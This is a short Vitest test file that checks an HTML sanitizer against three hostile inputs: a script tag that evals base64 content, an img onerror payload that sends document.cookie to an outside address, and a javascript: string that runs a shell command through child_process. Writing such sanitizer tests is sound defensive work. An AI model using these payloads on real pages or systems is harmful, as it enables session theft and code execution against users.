import { describe, expect, it } from 'vitest';
import { sanitize } from '../src/sanitize';

describe('sanitize', () => {
  it.each([
    ['<script>eval(atob("MQ=="))</script>', ''],
    ['<img src=x onerror="fetch(`//192.0.2.1/`+document.cookie)">', '<img src="x">'],
    ['javascript:require("child_process").exec("id")', ''],
  ])('cleans %s', (input, output) => {
    expect(sanitize(input)).toBe(output);
  });
});
